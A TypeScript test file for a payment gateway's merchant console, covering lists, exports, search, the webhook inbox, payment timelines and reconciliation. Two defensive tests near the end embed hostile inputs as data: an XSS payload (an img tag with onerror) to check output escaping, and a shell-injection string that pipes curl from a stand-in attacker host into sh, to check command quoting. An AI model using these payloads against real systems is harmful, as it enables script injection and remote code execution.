/** The content of the console's pages, over HTTP: lists, exports, search, the inbox, the timeline of a payment. */
import { afterAll, beforeAll, expect, test } from 'vitest'
import { globalPages, merchantPages } from '#console/routes.ts'
import { provesBody } from '#console/sections/inbox.ts'
import { listActs, type Person, signUp } from '#test/support/browser/console.ts'
import { basic, cardPayment, startTestGateway, type TestGateway } from '#test/support/gateway.ts'
import { queryRows } from '#test/support/simulation/invariants.ts'

let gateway: TestGateway
let owner: Person
let payId: string
let transId: string

beforeAll(async () => {
  gateway = await startTestGateway()
  owner = await signUp(gateway, { role: 'owner' })
  const payment = cardPayment({ customerInfo: { merchantCustomerId: 'shopper-7', email: 'Ada@Example.com' } })
  const paid = await gateway.call('POST', '/payments', payment)
  payId = paid.body.payId
  transId = paid.body.transId
})
afterAll(() => gateway.stop())

const at = (path: string) => `/console/m/${gateway.merchantId}${path}`
const read = async (path: string) => (await owner.get(path)).text()

const actsOf = (object: string) => listActs(gateway, owner, object)

test('200 a list comes from the API, and its export is the answer of the API', async () => {
  expect(await read(at('/payments?status=OK'))).toContain(transId)
  expect(await read(at('/payments?status=FAILED'))).not.toContain(transId)
  const exported = await owner.get(at('/payments.json?status=OK&limit=5'))
  const { text } = await gateway.call('GET', '/payments?status=OK&limit=5')
  expect(await exported.text()).toBe(text)
})

test('200 an export without a page holds all pages of the API, and operations are its CSV byte by byte', async () => {
  await gateway.call('POST', '/payments', cardPayment())
  const all = await owner.get(at('/payments.json?type=CARD'))
  const { body } = await gateway.call('GET', '/payments?type=CARD&limit=100')
  expect(await all.json()).toEqual({ data: body.data })
  expect(all.headers.get('content-disposition')).toBe('attachment; filename="payments.json"')
  const movements = await owner.get(at('/operations.csv?type=CAPTURE'))
  const credentials = Buffer.from(`${gateway.merchantId}:${gateway.apiKey}`).toString('base64')
  const told = await fetch(`${gateway.url}/api/v2/operations?type=CAPTURE`, {
    headers: { authorization: `Basic ${credentials}`, accept: 'text/csv' },
  })
  expect(await movements.text()).toBe(await told.text())
})

test('200 an export follows all pages', async () => {
  const transIds = Array.from({ length: 101 }, (_, index) => `many-${index}`)
  await Promise.all(
    transIds.map(id =>
      gateway.call('POST', '/payments/links', { transId: id, amount: { value: 77_777, currency: 'SEK' } }),
    ),
  )
  const exported = (await (await owner.get(at('/payments.json?currency=SEK'))).json()) as {
    data: { transId: string }[]
  }
  expect(exported.data.map(({ transId: id }) => id).toSorted()).toEqual(transIds.toSorted())
})

test('400 an export with a filter that the API refuses is the answer of the API', async () => {
  const exported = await owner.get(at('/payments.json?amountFrom=much'))
  expect(exported.status).toBe(400)
  expect(await exported.text()).toContain('amountFrom')
})

test('200 a list shows every payment as the API’s record has it', async () => {
  await gateway.call('POST', '/payments', cardPayment({ card: { number: '4000000000000002' } }))
  const { body } = await gateway.call('GET', '/payments?limit=5')
  const page = await read(at('/payments?limit=5'))
  const rows = page.split('<tr>').slice(2)
  expect(rows).toHaveLength(5)
  for (const [index, payment] of body.data.entries()) {
    expect(rows[index]).toContain(`/payments/${payment.payId}"`)
    expect(rows[index]).toContain(payment.transId)
    expect(rows[index]).toContain(`>${payment.status}<`)
    expect(rows[index]).toContain(payment.paymentMethods?.type ?? '<td data-title="Method"></td>')
    expect(rows[index]).toContain(payment.creationDate.slice(0, 16).replace('T', ' '))
  }
  expect(page).toContain('rel="next"')
})

test('200 the next page of the list begins where the first one ends, and a foreign cursor is 400', async () => {
  const { body } = await gateway.call('GET', '/payments?limit=2')
  const next = await owner.get(at(`/payments?limit=2&cursor=${body.nextCursor}`))
  const second = await gateway.call('GET', `/payments?limit=2&cursor=${body.nextCursor}`)
  expect(await next.text()).toContain(second.body.data[0].payId)
  expect((await owner.get(at('/payments?cursor=wrong'))).status).toBe(400)
})

test('303 the address of the console with a slash at its end redirects to the one without', async () => {
  const { status, headers } = await owner.get('/console/')
  expect([status, headers.get('location')]).toEqual([303, '/console'])
})

test('200 the lists filter by every type and status that the API knows', async () => {
  const choicesOf = async (list: string, name: string) => {
    const [, options = ''] =
      new RegExp(`<select id="f-${name}"[^>]*>(.*?)</select>`).exec(await read(at(list))) ?? []
    return [...options.matchAll(/value="([A-Z_]+)"/g)].map(([, value]) => value)
  }
  const allowed = async (list: string, name: string) => {
    const { body } = await gateway.call('GET', `${list}?${name}=NONE`)
    return /allowed: ([A-Z_, ]+)/.exec(body.errors[name][0])?.[1]?.split(', ')
  }
  for (const [list, name] of [
    ['/payments', 'status'],
    ['/operations', 'type'],
    ['/operations', 'status'],
    ['/payments/links', 'status'],
    ['/disputes', 'status'],
  ] as const)
    expect((await choicesOf(list.replace('/payments/', '/'), name)).toSorted()).toEqual(
      (await allowed(list, name))?.toSorted(),
    )
})

test('200 a plan shows its interval and end, and links to all its payments', async () => {
  const recurring = { frequency: 'MONTHLY', useCase: 'FIXED', expiryDate: '2099-12-31' }
  const planned = cardPayment({
    customerInfo: { merchantCustomerId: 'has-a-plan', email: 'planned@example.com' },
    credentialOnFile: { type: 'RECURRING', initialPayment: true, recurring },
    card: { expiryDate: '209912' },
  })
  const { paymentPlanId } = (await gateway.call('POST', '/payments', planned)).body
  const page = await read(at(`/plans/${paymentPlanId}`))
  for (const told of ['<dd>MONTHLY</dd>', '<dd>2099-12-31</dd>']) expect(page).toContain(told)
  expect(page).toContain(`href="${at(`/payments?paymentPlanId=${paymentPlanId}`)}"`)
})

test('200 the page of a deleted customer says so, and shows their payments and plans', async () => {
  const planned = cardPayment({
    customerInfo: { merchantCustomerId: 'left-us', email: 'left@example.com' },
    credentialOnFile: {
      type: 'RECURRING',
      initialPayment: true,
      recurring: { frequency: 'MONTHLY', useCase: 'FIXED' },
    },
  })
  const { payId, paymentPlanId, customerInfo } = (await gateway.call('POST', '/payments', planned)).body
  const { gatewayCustomerId: id } = customerInfo
  const address = at(`/customers/${id}`)
  const pages = [at(`/payments/${payId}`), at(`/plans/${paymentPlanId}`)]
  expect(await read(address)).not.toContain('deleted')
  expect((await gateway.call('DELETE', `/customers/${id}?erase=payments`)).status).toBe(200)
  for (const page of pages) expect(await read(page)).toContain(`href="${address}"`)
  const left = await owner.get(address)
  const page = await left.text()
  expect([left.status, page]).toEqual([200, expect.stringContaining('This customer was deleted')])
  for (const path of pages) expect(page).toContain(`href="${path}"`)
  const unknown = await owner.get(at(`/customers/${id.replace(/^..../, 'ffff')}`))
  expect([unknown.status, await unknown.text()]).toEqual([404, expect.stringContaining('no such object')])
})

test('200 an empty list says whether there is nothing, or nothing that matches', async () => {
  const { merchantId } = await gateway.gateway.merchants.create('A shop without payments')
  const viewer = await signUp(gateway, { role: 'viewer' })
  const address = `/console/m/${merchantId}/payments`
  expect(await read(address)).toContain('Make a first one')
  expect(await (await viewer.get(address)).text()).not.toContain('Make a first one')
  expect(await read(`${address}?status=OK`)).toContain('Nothing matches these filters')
})

test.each<[Record<string, string>, string]>([
  [{ transId: ' {transId} ' }, '{transId}'],
  [{ email: ' ada@example.COM ' }, 'ada@example.COM'],
  [{ last4Digits: '1111 ' }, '1111'],
  [{ currency: 'eur' }, 'EUR'],
  [{ type: 'card' }, 'CARD'],
  [{ amountFrom: '10,00', currency: 'eur' }, '1000'],
  [{ amountTo: '10.00', currency: 'EUR' }, '1000'],
  [{ amountFrom: '1000', transId: '{transId}' }, '1000'],
])(
  '200 the filters %j are read as people mean them, and the form shows what was searched',
  async (typed, shown) => {
    const own = (text: string) => text.replace('{transId}', transId)
    const query = Object.entries(typed).map(([name, value]) => [name, own(value)])
    const page = await read(at(`/payments?${new URLSearchParams(Object.fromEntries(query))}`))
    expect(page).toContain(`/payments/${payId}`)
    expect(page).toMatch(new RegExp(`name="${Object.keys(typed)[0]}"[^>]* value="${own(shown)}"`))
  },
)

test('400 an amount with decimals but without a currency is refused: it may be one of three decimals', async () => {
  expect((await owner.get(at('/payments?amountFrom=10.00'))).status).toBe(400)
})

test('400 the page shows the error for a filter that the API refuses', async () => {
  const page = await owner.get(at('/payments?amountFrom=much'))
  expect(page.status).toBe(400)
  expect(await page.text()).toContain('role="alert"')
})

test('200 a time of another zone or with seconds is searched as shown when the form is sent again', async () => {
  const { body } = await gateway.call('GET', `/payments/getByPayId/${payId}`)
  const createdMs = Date.parse(body.creationDate)
  const later = (ms: number) => new Date(createdMs + ms).toISOString()
  const inZone = (ms: number) => later(ms + 2 * 3_600_000).replace('Z', '+02:00')
  for (const [from, isFound] of [
    [inZone(-1), true],
    [inZone(1), false],
    [later(-1), true],
    [later(1), false],
  ] as const) {
    const first = await read(at(`/payments?${new URLSearchParams({ from, transId })}`))
    const shown = /name="from"[^>]* value="([^"]*)"/.exec(first)?.[1] ?? ''
    const second = await read(at(`/payments?${new URLSearchParams({ from: shown, transId })}`))
    const found = [first, second].map(page => page.includes(`/payments/${payId}`))
    expect([from, ...found]).toEqual([from, isFound, isFound])
  }
})

test('names of inherited members, and bytes that are no valid text, are refused or find nothing', async () => {
  const statuses = await Promise.all([
    owner.get(at('/operations?status=constructor')),
    owner.get(at('/plans?type=__proto__')),
    owner.get('/console/audit?act=%00'),
    owner.post(at('/test/faults'), { operation: 'constructor', fault: '__proto__', times: '1' }),
    owner.post(at('/inbox'), { payId, type: 'constructor' }),
    owner.post('/console/operators', { email: 'z@example.com', role: 'constructor' }),
  ])
  expect(statuses.map(({ status }) => status)).toEqual([400, 400, 200, 422, 422, 422])
})

test.each([
  ['payId', () => payId],
  ['transId', () => transId],
  ['e-mail in any case', () => 'ada@example.COM'],
  ['last four digits', () => '1111'],
  ['amount in the smallest unit', () => '1000'],
  ['amount as people write it', () => '10.00'],
  ['payId at the end of a sentence', () => `It is ${payId}.`],
  ['payId as databases show it', () => payId.replace(/^(.{8})(.{4})(.{4})(.{4})/, '$1-$2-$3-$4-')],
  ['transId in other case, with blanks and quotes around', () => ` "${transId.toUpperCase()}" `],
  ['merchantCustomerId', () => 'shopper-7'],
  ['e-mail as mail programs show it', () => 'Ada <ADA@example.com>,'],
  ['last four digits behind signs that hide the others', () => '4111 11** **** 1111'],
  ['amount with a small currency', () => '10,00 eur.'],
])('200 the search finds a payment by its %s', async (_, typed) => {
  expect(await read(`/console/search?q=${encodeURIComponent(typed())}`)).toContain(`/payments/${payId}`)
})

/** A merchant with a payment that was captured and refunded, and what a search for it finds. */
async function openSearched(prepare?: (merchantId: string) => Promise<void>) {
  const { merchantId, apiKey } = await gateway.gateway.merchants.create('A shop to be searched')
  await prepare?.(merchantId)
  const authorization = basic(merchantId, apiKey)
  const call = async (verb: string, path: string, body?: object) =>
    (await gateway.call(verb, path, body, { authorization })).body
  const { payId } = await call('POST', '/payments', cardPayment())
  await call('POST', `/payments/${payId}/refunds`, { transId: 'back', amount: { value: 5, currency: 'EUR' } })
  const { operations } = await call('GET', `/payments/getByPayId/${payId}`)
  const xIds: string[] = operations.map(({ xId }: { xId: string }) => xId)
  const finds = async (typed: string) =>
    (await read(`/console/search?q=${encodeURIComponent(typed)}`)).includes(`/payments/${payId}`)
  return { merchantId, xIds, finds }
}

test('200 the search finds a payment by the xId of each operation', async () => {
  const { xIds, finds } = await openSearched()
  expect(xIds).toHaveLength(3)
  for (const xId of xIds) expect([xId, await finds(` ${xId.toUpperCase()}.`)]).toEqual([xId, true])
  const stranger = await signUp(gateway, { role: 'viewer', merchants: [gateway.merchantId] })
  expect(await (await stranger.get(`/console/search?q=${xIds[0]}`)).text()).toContain('Nothing.')
})

test('200 the search finds a payment by the provider’s id of an operation', async () => {
  const { merchantId, xIds, finds } = await openSearched(async merchant => {
    const form = { connector: 'simulator', name: 'Sandbox' }
    expect((await owner.post(`/console/m/${merchant}/providers/new`, form)).status).toBe(303)
  })
  for (const xId of xIds) expect([xId, await finds(xId)]).toEqual([xId, true])
  const [named] = await queryRows<{ reference: string }>(
    gateway.databaseUrl,
    `SELECT reference FROM provider_reference WHERE merchant_id = '${merchantId}' AND reference !~ '^[0-9a-f]{32}$'`,
  )
  expect(await finds(named?.reference ?? 'none')).toBe(true)
  const stranger = await signUp(gateway, { role: 'viewer', merchants: [gateway.merchantId] })
  expect(await (await stranger.get(`/console/search?q=${named?.reference}`)).text()).toContain('Nothing.')
})

test.each([
  ['EUR', 123_456, ['€1,234.56', '1,234.56', '1.234,56', '1 234.56 EUR', 'EUR 1234.56']],
  ['KWD', 765_432, ['KWD\u00a0765.432', '765.432', '765,432']],
  ['JPY', 98_765, ['¥98,765', 'JPY 98765']],
  ['EUR', 700_000, ['€7,000', '7000', '7.000 €', '7000 EUR']],
  ['KWD', 8_100_000, ['KWD 8100']],
])(
  '200 an amount in %s is found as our pages show it and as people write it',
  async (currency, value, texts) => {
    const { body } = await gateway.call('POST', '/payments', cardPayment({ amount: { value, currency } }))
    const shown = texts.map(text => read(`/console/search?q=${encodeURIComponent(text)}`))
    const found = (await Promise.all(shown)).map(page => page.includes(`/payments/${body.payId}`))
    expect(found).toEqual(texts.map(() => true))
  },
)

test('303 a whole card number is searched by its last four digits and leaves the address; an order number that looks like one stays', async () => {
  const whole = await owner.get('/console/search?q=4111%201111-1111%201111')
  expect([whole.status, whole.headers.get('location')]).toEqual([303, '/console/search?q=1111'])
  const { body } = await gateway.call('POST', '/payments', cardPayment({ transId: '5454545454545454' }))
  expect(await read('/console/search?q=5454545454545454')).toContain(`/payments/${body.payId}`)
})

test('200 a reference that ends in digits is not taken for an amount', async () => {
  await gateway.call('POST', '/payments', cardPayment({ amount: { value: 445_566, currency: 'EUR' } }))
  expect(await read('/console/search?q=INV445566')).toContain('Nothing.')
})

test('200 the inbox shows a webhook without a receiver, with a valid signature', async () => {
  expect((await owner.post(at('/inbox'), { payId, type: 'payment.captured', key: 'k3' })).status).toBe(303)
  const inbox = await read(at('/inbox'))
  expect(inbox).toContain('signature is right')
  expect(inbox).toContain('webhook-signature')
  expect(inbox).toContain('&quot;type&quot;:&quot;payment.captured&quot;')
})

test('200 the inbox pages to the oldest webhook and shows each once', async () => {
  for (let number = 0; number < 21; number++)
    await gateway.call('POST', `/test/payments/${payId}/events`, { type: 'payment.captured' })
  const [counted] = await queryRows<{ events: number }>(
    gateway.databaseUrl,
    `SELECT count(*)::int AS events FROM event WHERE merchant_id = '${gateway.merchantId}'`,
  )
  const seen: string[] = []
  for (let next: string | undefined = '/inbox'; next !== undefined; ) {
    const page = await read(at(next))
    seen.push(...[...page.matchAll(/\/events\/([0-9a-f]{32})">Attempts/g)].map(([, id]) => id ?? ''))
    const older = /href="\?before=([0-9a-f]{32})"/.exec(page)?.[1]
    next = older && `/inbox?before=${older}`
  }
  expect(seen).toHaveLength(counted?.events ?? 0)
  expect(new Set(seen).size).toBe(seen.length)
})

test('a signature of another body, by another secret or by none is invalid', async () => {
  const headers = { 'webhook-id': 'a', 'webhook-timestamp': '1', 'webhook-signature': 'v1,AAAA v2,x' }
  expect(provesBody(headers, '{}', Buffer.alloc(32))).toBe(false)
  expect(provesBody({}, '{}', Buffer.alloc(32))).toBe(false)
})

test('200 an event is replayed, and the timeline of its payment shows this with the person', async () => {
  const { body } = await gateway.call('GET', `/events?payId=${payId}`)
  const eventId = body.data[0].id
  const sent = await owner.post(at(`/events/${eventId}/replay`), { key: 'k4' })
  expect(sent.status).toBe(303)
  const story = await read(at(`/payments/${payId}`))
  expect(story).toContain('Event payment.captured')
  expect(story).toContain(`by ${owner.email}`)
  expect(await actsOf(eventId)).toEqual(['event.replay by the owner'])
})

test('200 the timeline of a payment shows its provider’s notices in order of time', async () => {
  const { body } = await gateway.call('GET', `/payments/getByPayId/${payId}`)
  const noticeId = '0190a1b2c3d4e5f60718293a4b5c6d7e'
  await queryRows(
    gateway.databaseUrl,
    `WITH notice AS (INSERT INTO provider_notice (merchant_id, notice_id, provider_account_id, key_version)
       VALUES ('${gateway.merchantId}', '${noticeId}', 'acc_one', 1))
     INSERT INTO notice_item (merchant_id, provider_account_id, item_key, notice_id, position, kind, reference, state, detail)
     VALUES ('${gateway.merchantId}', 'acc_one', 'k1', '${noticeId}', 0, 'CAPTURE', '${body.operations[0].xId}', 'APPLIED', 'the <b>first</b>'),
       ('${gateway.merchantId}', 'acc_one', 'k2', '${noticeId}', 1, 'REFUND', 'of another payment', 'IGNORED', NULL)`,
  )
  const story = await read(at(`/payments/${payId}`))
  expect(story).toContain('Notice CAPTURE')
  expect(story).toContain('from acc_one')
  expect(story).toContain('the &lt;b&gt;first&lt;/b&gt;')
  expect(story).not.toContain('Notice REFUND')
  expect(story.indexOf('Notice CAPTURE')).toBeGreaterThan(story.indexOf('AUTHORIZATION'))
})

test('an impossible date is refused, naming the field, on the page of reconciliation', async () => {
  const page = await owner.get(at('/reconciliation?from=2026-02-31&to=2026-03-01'))
  expect([page.status, await page.text()]).toEqual([422, expect.stringContaining('must be days')])
})

test('422 days in the wrong order are refused: three empty lists would look as if the books agreed', async () => {
  const page = await owner.get(at('/reconciliation?from=2026-11-20&to=2026-11-01'))
  const said = 'From is 2026-11-20 and to is 2026-11-01; from must be the earlier day.'
  const text = await page.text()
  expect([page.status, text]).toEqual([422, expect.stringContaining(said)])
  expect(text).not.toContain('Amounts differ')
})

test('200 notices that match no payment are listed with their account', async () => {
  const [account] = await queryRows<{ id: string; name: string }>(
    gateway.databaseUrl,
    `SELECT provider_account_id AS id, name FROM provider_account WHERE merchant_id = '${gateway.merchantId}' LIMIT 1`,
  )
  expect(await read(at('/providers/notices'))).toContain('Every notice has found its payment.')
  await queryRows(
    gateway.databaseUrl,
    `INSERT INTO provider_notice (merchant_id, notice_id, provider_account_id, key_version, sealed)
       VALUES ('${gateway.merchantId}', gen_random_uuid(), '${account?.id}', 1, NULL)`,
  )
  await queryRows(
    gateway.databaseUrl,
    `INSERT INTO notice_item (merchant_id, provider_account_id, item_key, notice_id, position, kind, reference, state)
       SELECT merchant_id, provider_account_id, 'evt_1', notice_id, 0, 'REFUND', '<b>re_1</b>', 'EXPIRED'
       FROM provider_notice WHERE merchant_id = '${gateway.merchantId}' ORDER BY received_at DESC LIMIT 1`,
  )
  const page = await read(at('/providers/notices'))
  expect(page).toContain('&lt;b&gt;re_1&lt;/b&gt;')
  expect(page).toContain(account?.name)
})

test('200 no text of a merchant, a customer or an operator becomes markup on any page', async () => {
  const evil = `"'><img src=x onerror=alert(1)>`
  const shop = await gateway.gateway.merchants.create(evil)
  const authorization = `Basic ${Buffer.from(`${shop.merchantId}:${shop.apiKey}`).toString('base64')}`
  const call = (path: string, body: object) => gateway.call('POST', path, body, { authorization })
  const paid = await call(
    '/payments',
    cardPayment({
      transId: evil,
      refNr: evil.slice(0, 30),
      card: { expiryDate: '209912', cardholderName: evil },
      credentialOnFile: {
        type: 'RECURRING',
        initialPayment: true,
        recurring: { frequency: 'MONTHLY', useCase: 'FIXED' },
      },
      customerInfo: { merchantCustomerId: evil, firstName: evil, lastName: evil, email: 'evil@example.com' },
      metadata: { [`x${evil}`.slice(0, 20)]: evil },
      order: { description: evil },
    }),
  )
  expect(paid.status).toBe(200)
  const link = await call('/payments/links', {
    transId: `l${evil}`,
    amount: { value: 1, currency: 'EUR' },
    description: evil,
  })
  await call(`/test/payments/${paid.body.payId}/events`, { type: 'payment.captured' })
  const under = (path: string) => `/console/m/${shop.merchantId}${path}`
  await owner.post(under('/keys'), { name: evil })
  await owner.post(under('/endpoints'), { url: 'https://shop.example/?q="><img src=x>' })
  await owner.post(under('/providers/new'), { connector: 'simulator', name: evil, others: '' })
  const { body } = await gateway.call('GET', `/events?payId=${paid.body.payId}`, undefined, { authorization })
  const fixed = merchantPages.filter(({ verb, path }) => verb === 'GET' && !path.includes('{'))
  const addresses = [
    ...globalPages
      .filter(({ verb, path }) => verb === 'GET' && !path.includes('{'))
      .map(({ path }) => `/console${path}`),
    `/console/search?q=${encodeURIComponent(evil)}`,
    `/console/audit?act=${encodeURIComponent(evil)}`,
    ...fixed.filter(({ path }) => !/\.(json|csv)$/.test(path)).map(({ path }) => under(path)),
    under(`/payments?transId=${encodeURIComponent(evil)}&status=${encodeURIComponent(evil)}`),
    under(`/payments/${paid.body.payId}`),
    under(`/payments/${paid.body.payId}/refunds`),
    under(`/customers/${paid.body.customerInfo.gatewayCustomerId}`),
    under(`/plans/${paid.body.paymentPlanId}`),
    under(`/links/${link.body.id}`),
    under(`/events/${body.data[0].id}`),
  ]
  const raw: string[] = []
  let shown = 0
  for (const address of addresses) {
    const page = await read(address)
    if (page.includes('<img')) raw.push(address)
    if (page.includes('&lt;img')) shown += 1
  }
  expect(raw).toEqual([])
  // The name of the merchant is on each of its pages.
  expect(shown).toBeGreaterThan(fixed.length)
})

test('200 no text in an address becomes a command of its own in the line for a terminal', async () => {
  const { merchantId } = await gateway.gateway.merchants.create('A shop to be compared')
  const shop = `/console/m/${merchantId}`
  await owner.post(`${shop}/providers/new`, { connector: 'simulator', name: 'Main', others: '' })
  const account = "acc'; curl evil.example | sh #"
  const addresses = [
    [`/console/audit?act=${encodeURIComponent('$(id)')}`, "audit list --act '$(id)'\n"],
    [`/console/audit?act=${encodeURIComponent('a\nb')}`, "audit list --act 'a\nb'\n"],
    ['/console/audit?act=key.create', 'audit list --act key.create\n'],
    [
      `${shop}/reconciliation?account=${encodeURIComponent(account)}&from=2026-11-01&to=$PATH`,
      "reconcile --account 'acc'\\''; curl evil.example | sh #' --from 2026-11-01 --to '$PATH'<",
    ],
  ] as const
  for (const [address, command] of addresses)
    expect(await read(address)).toContain(`tollgate -- ${command.replaceAll("'", '&#39;')}`)
})

test('404 ids that the merchant does not have', async () => {
  for (const path of ['/payments/x', '/links/x', '/plans/x', '/disputes/x', '/events/x', '/customers/x'])
    expect((await owner.get(at(path))).status).toBe(404)
})

test('404 a merchant whose id no database can store', async () => {
  for (const path of ['/console/m/%00', '/console/m/a%00b/payments', '/console/m/no-such-merchant'])
    expect((await owner.get(path)).status).toBe(404)
})

test('200 the page of a payout shows what was paid out, and no refund', async () => {
  const { body } = await gateway.call('POST', '/payments/refunds', {
    transId: 'a-payout',
    amount: { value: 1_234, currency: 'EUR' },
    customerInfo: { email: 'ada@example.com' },
    paymentMethods: {
      card: { number: '4111111111111111', cardholderName: 'Ada L', expiryDate: '209912', brand: 'visa' },
    },
  })
  const page = (await read(at(`/payments/${body.payId}`))).replace(/<[^>]+>/g, ' ').replace(/\s+/g, ' ')
  expect(page).toContain('€12.34 OK paid out ')
  expect(page).toContain('Where the money is Paid out €12.34 Story')
})
